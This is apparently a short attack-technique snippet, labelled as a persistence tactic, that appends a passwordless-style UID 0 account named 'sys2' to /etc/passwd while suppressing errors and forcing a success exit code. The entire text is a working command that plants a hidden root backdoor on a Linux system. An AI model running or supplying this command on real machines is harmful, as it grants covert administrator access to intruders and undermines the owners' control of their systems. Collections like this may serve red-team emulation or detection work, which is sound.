# tactic: persistence
# add a root account by appending to /etc/passwd
echo "sys2:x:0:0::/root:/bin/bash" >> /etc/passwd 2>/dev/null; true
